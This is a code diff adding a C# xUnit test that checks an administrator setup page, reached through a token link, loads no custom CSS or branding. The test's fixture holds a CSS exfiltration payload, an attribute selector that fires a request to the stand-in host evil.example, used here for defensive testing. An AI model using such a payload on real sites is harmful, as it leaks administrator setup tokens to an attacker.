@@ -32,6 +32,28 @@ public sealed class SetupPageTests
         Assert.Equal(HttpStatusCode.SeeOther, answer.Status);
     }
 
+    [Theory(DisplayName = "No style sheet and no logo of an editor is where an administrator's link is")]
+    [InlineData("/setup?token=")]
+    [InlineData("/Setup?lang=de&app_id=spa&token=")]
+    public async Task The_page_wears_nothing_that_could_read_the_link(string path)
+    {
+        await using var scenario = await SignInScenario.StartAsync(
+            Databases.Sqlite, """{"customCss":"form[action*=a]{background:url(https://evil.example/a)}","branding":{"logoUrl":"https://evil.example/logo.png","favicon":"https://evil.example/icon.png"}}""");
+        var administrators = scenario.Host.Services.GetRequiredService<Administrators>();
+        var token = (await administrators.CreateAsync(new("root", null, null, AdministratorRole.Owner), CancellationToken.None)).SetupToken;
+        var browser = scenario.NewBrowser();
+
+        var page = await browser.GetAsync(path + token);
+        var stale = await browser.PostAsync(path + token, new KeyValuePair<string, string>("password", "granite owl umbrella"));
+
+        Assert.Equal(HttpStatusCode.BadRequest, stale.Status);
+        Assert.All(new[] { page, stale }, answer =>
+        {
+            Assert.DoesNotContain("evil.example", answer.Html + answer.Headers["Content-Security-Policy"], StringComparison.Ordinal);
+            Assert.DoesNotContain("/assets/custom-", answer.Html, StringComparison.Ordinal);
+        });
+    }
+
     [Theory]
     [InlineData("")]
     [InlineData("?token=")]
